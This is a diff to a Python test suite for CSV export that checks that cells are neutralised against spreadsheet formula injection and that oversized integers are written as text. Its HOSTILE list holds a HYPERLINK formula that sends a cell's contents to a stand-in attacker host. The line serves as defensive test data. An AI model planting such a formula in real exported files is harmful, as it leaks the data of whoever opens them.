@@ -9,7 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from sqlalchemy import text
 
-from core.sheets import MARK, csv_lines, inert
+from core.sheets import EXACT, MARK, csv_lines, inert
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Ani")',
@@ -90,7 +90,7 @@ def test_sc_08_another_parser_reads_texts_quoted_and_numbers_typed(session):
     assert rows[1][0] == "'+6281234567890"
 
 
-@given(st.text(), st.integers())
+@given(st.text(), st.integers(-EXACT, EXACT))
 def test_sc_08_whatever_is_written_is_one_cell_of_text_and_one_number(name, number):
     content = file_of([name, number]).removeprefix(MARK)
 
@@ -99,6 +99,14 @@ def test_sc_08_whatever_is_written_is_one_cell_of_text_and_one_number(name, numb
 
     assert row == [inert(name), number]
     assert "".join(row[0].split("'")) == "".join(name.replace("\0", "").split("'"))
+
+
+@given(st.integers(EXACT + 1) | st.integers(max_value=-EXACT - 1))
+def test_a_number_that_a_spreadsheet_would_round_is_written_as_text(number):
+    line = file_of(["Ani", number]).splitlines()[1]
+
+    assert line == f'"Ani","{inert(str(number))}"'
+    assert str(abs(number)) in line
 
 
 def test_numbers_instants_and_nothing_keep_their_kind():
